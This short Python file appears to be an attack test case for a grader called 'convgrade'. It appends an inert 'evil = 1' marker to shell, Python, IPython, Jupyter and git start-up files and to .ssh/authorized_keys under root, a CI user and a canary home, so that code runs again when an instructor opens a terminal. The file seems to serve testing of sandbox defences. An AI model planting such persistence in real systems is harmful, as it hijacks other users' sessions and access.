"""Attack: start-up files of shells, Python, IPython, Jupyter and git.
Wants: to run again when the instructor opens a terminal.
Honest mark: 22
"""

# %% own
import os

for home in ("CANARY/home", os.path.expanduser("~root"), "/root", "/home/convgrade-ci"):
    for name in (
        ".bashrc",
        ".profile",
        ".ipython/profile_default/startup/00-evil.py",
        ".jupyter/jupyter_config.py",
        ".gitconfig",
        ".local/lib/python3.11/site-packages/usercustomize.py",
        ".config/convgrade-attack",
        ".ssh/authorized_keys",
    ):
        try:
            os.makedirs(os.path.dirname(f"{home}/{name}"), exist_ok=True)
            with open(f"{home}/{name}", "a") as file:
                file.write("evil = 1\n")
        except OSError:
            pass
